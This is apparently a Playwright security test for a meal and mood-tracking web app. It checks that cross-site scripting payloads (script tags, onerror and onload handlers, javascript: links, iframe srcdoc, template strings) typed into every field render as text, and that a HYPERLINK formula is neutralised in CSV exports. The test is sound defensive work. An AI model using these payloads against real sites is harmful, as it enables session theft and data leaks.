import { addFriend, encourageFriend, listFriends } from '@moodbowl/contract/friends';
import { addGrocery } from '@moodbowl/contract/groceries';
import { sendFeedback } from '@moodbowl/contract/feedback';
import { logMeal } from '@moodbowl/contract/meal-logs';
import { createMeal, deleteMeal, MEAL_LIMITS } from '@moodbowl/contract/meals';
import { saveMood } from '@moodbowl/contract/moods';
import { exportAccount } from '@moodbowl/contract/account-export';
import { updateProfile } from '@moodbowl/contract/profile';
import { saveMeal } from '@moodbowl/contract/saved-meals';
import type { Page } from '@playwright/test';
import { today } from '../time-zone.ts';
import { expect, NOWHERE, openElsewhere, Person, test } from './fixtures.ts';

/** Short enough for every field except the quantity. */
const SHORT = `"><svg onload=hurt()><script>hurt()</script>{{hurt}}\u202e`;
/** Markup that a page, URL, style or template might interpret. */
const LONG = `${SHORT}</title></textarea></style><img src=x onerror=hurt()><style>*{display:none}</style><a href=javascript:hurt()>[x](javascript:hurt()) \${hurt()} <%= hurt() %> &lt;b&gt; <iframe srcdoc="<script>parent.hurt()</script>">`;
const QUANTITY = '<b onclick=hurt()>';
/** The longest email; emails have no spaces. */
const EMAIL = `"><img/src=x/onerror=hurt()>`;
const FORMULA = '=HYPERLINK("https://example.org?"&A1,"look")';
const PICTURE = `${NOWHERE}"onerror="hurt()`;

/** Records whether a script ran, or a picture was asked for elsewhere. */
async function watch(page: Page): Promise<string[]> {
  const hurts: string[] = [];
  page.on('dialog', (dialog) => {
    hurts.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.exposeFunction('hurt', () => hurts.push(page.url()));
  page.on('request', (asked) => {
    if (asked.url().startsWith(NOWHERE)) hurts.push(asked.url());
  });
  return hurts;
}

/** All texts of the page: visible ones, values of fields, and accessible names. */
async function saidOn(page: Page): Promise<string> {
  return page.evaluate(() =>
    [
      document.title,
      document.body.innerText,
      ...[...document.querySelectorAll<HTMLInputElement>('input, textarea')].map(({ value }) => value),
      ...[...document.querySelectorAll('[aria-label], [title], [alt]')].flatMap((element) =>
        ['aria-label', 'title', 'alt'].map((name) => element.getAttribute(name) ?? ''),
      ),
    ].join('\n'),
  );
}

/** The typed text is shown as text, and none of it became part of the page. */
async function expectText(page: Page, ...texts: readonly string[]): Promise<void> {
  await expect(page.getByRole('main')).toBeVisible();
  for (const text of texts)
    await expect.poll(() => saidOn(page), { message: `${page.url()}: ${text}` }).toContain(text);
  const parts = await page.evaluate(() =>
    [
      ...document.querySelectorAll(
        '[onload], [onerror], [onclick], iframe, body style:not([data-mantine-styles]), body script:not([src]), a[href^="javascript:" i]',
      ),
    ].map((element) => element.outerHTML.slice(0, 200)),
  );
  expect(parts, page.url()).toEqual([]);
}

test('typed markup is shown as text on every screen', async ({ page, request, browser, complaints }) => {
  const hurts = await watch(page);
  const unique = Date.now().toString(36);
  const person = await Person.register(request, { admin: true, username: `constructor.${unique}` });
  const friend = await Person.register(request);
  const email = `${EMAIL}@${unique}.example.org`;
  await person.call(updateProfile, { body: { username: person.username, email, avatar: 'Bored' } });
  const meal = await person.call(createMeal, {
    body: {
      name: `Meal ${SHORT}`,
      mood: 'Bored',
      description: `About ${LONG}`,
      ingredients: [`Of ${SHORT}`],
      steps: [`Do ${LONG}`],
      image_url: PICTURE,
    },
  });
  await person.call(saveMeal, { params: { id: meal.id } });
  await person.call(saveMood, { body: { mood: 'Happy', note: FORMULA } });
  await person.call(saveMood, { body: { mood: 'Bored', note: `Note ${LONG}` } });
  await person.call(addGrocery, { body: { item_name: `Item ${SHORT}`, quantity: QUANTITY } });
  // Meals eaten lately are not suggested again.
  const eaten = await person.call(createMeal, { body: { name: `Eaten ${SHORT}`, mood: 'Bored' } });
  await person.call(logMeal, { body: { meal_id: eaten.id } });
  await person.call(sendFeedback, { body: { subject: `Subject ${SHORT}`, message: `Message ${LONG}` } });
  await friend.call(addFriend, { body: { friendIdentifier: person.username } });
  await person.call(addFriend, { body: { friendIdentifier: friend.username } });
  await person.call(addFriend, { body: { friendIdentifier: `${EMAIL}@stranger.example.org` } });
  const [seen] = (await friend.call(listFriends, {})).accepted;
  const cheer = { receiverId: seen!.friend_id, message: `Cheer ${SHORT}` };
  await friend.call(encourageFriend, { body: cheer });
  const [other] = (await person.call(listFriends, {})).accepted;
  await person.call(encourageFriend, { body: { receiverId: other!.friend_id, message: `Cheer ${SHORT}` } });

  await person.enter(page, '/register');
  const screens: Readonly<Record<string, readonly string[]>> = {
    '/home': [`Item ${SHORT}`, QUANTITY, `Meal ${SHORT}`],
    '/mood-tracker': [`Note ${LONG}`, FORMULA],
    [`/mood/${today()}`]: [`Note ${LONG}`, `Eaten ${SHORT}`],
    '/suggestions': [`Meal ${SHORT}`],
    '/meals': [`Item ${SHORT}`, `Meal ${SHORT}`],
    '/recipes': [`Meal ${SHORT}`],
    [`/recipes/${meal.id}`]: [`Meal ${SHORT}`, `About ${LONG}`, `Of ${SHORT}`, `Do ${LONG}`],
    '/saved-meals': [`Meal ${SHORT}`, 'About "><svg'],
    '/friends': [`${EMAIL}@stranger.example.org`],
    '/profile': [person.username, email, `Meal ${SHORT}`],
    '/feedback': [`Subject ${SHORT}`, `Message ${LONG}`],
    '/admin': [`Meal ${SHORT}`, 'About "><svg'],
    [`/admin/edit-meal/${meal.id}`]: [`Meal ${SHORT}`, `About ${LONG}`, `Of ${SHORT}`, `Do ${LONG}`],
  };
  for (const [path, texts] of Object.entries(screens)) {
    await page.goto(path);
    await expectText(page, ...texts);
  }

  // Dialogs and messages.
  await page.goto('/mood-tracker');
  await page.getByRole('group', { name: 'Mood jar' }).getByRole('button').first().hover();
  await expectText(page, `Note ${LONG}`.slice(0, 15));
  await page.goto('/meals');
  await page.getByRole('button', { name: `Delete Item ${SHORT}` }).click();
  await expectText(page, `Deleted "Item ${SHORT}"`);
  await page.goto('/friends');
  await page.getByRole('tab', { name: 'Friends' }).click();
  await expectText(page, `Cheer ${SHORT}`);
  await page.goto('/admin');
  await page.getByRole('tab', { name: 'Feedback' }).click();
  await page
    .getByRole('button', { name: `More of Subject ${SHORT}` })
    .first()
    .click();
  await expectText(page, `Subject ${SHORT}`, `Message ${LONG}`);
  await page.goto('/recipes');
  await page.getByRole('searchbox', { name: 'Search' }).fill(LONG);
  await expectText(page, LONG.slice(0, MEAL_LIMITS.search));

  // Parameters in the URL.
  await page.goto(`/recipes?mood=${encodeURIComponent(LONG)}`);
  await expectText(page);
  expect(complaints).toEqual([]);
  for (const path of ['/', '/mood/', '/recipes/', '/meals/', '/admin/edit-meal/']) {
    // Waits for the refusal, so that its error is not reported later.
    await page.goto(path + encodeURIComponent(SHORT), { waitUntil: 'networkidle' });
    await expectText(page);
  }
  // The server knows none of these and answers with errors.
  expect(complaints.filter((line) => !/^4\d\d: |status of 4\d\d/.test(line))).toEqual([]);
  complaints.length = 0;

  // What other users see of it.
  const friendsPage = await openElsewhere(browser, complaints);
  const friendsHurts = await watch(friendsPage);
  await friend.enter(friendsPage, '/friends');
  await friendsPage.getByRole('tab', { name: 'Friends' }).click();
  await expectText(friendsPage, person.username, `Eaten ${SHORT}`, `Cheer ${SHORT}`);

  // Spreadsheets must not calculate it either.
  const csv = await request.get(`/api${exportAccount.path}?format=csv`, {
    headers: { authorization: `Bearer ${person.session.token}` },
  });
  expect(await csv.text()).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);

  expect([...hurts, ...friendsHurts]).toEqual([]);
  // Other tests use the same catalogue.
  for (const { id } of [meal, eaten]) await person.call(deleteMeal, { params: { id } });
});
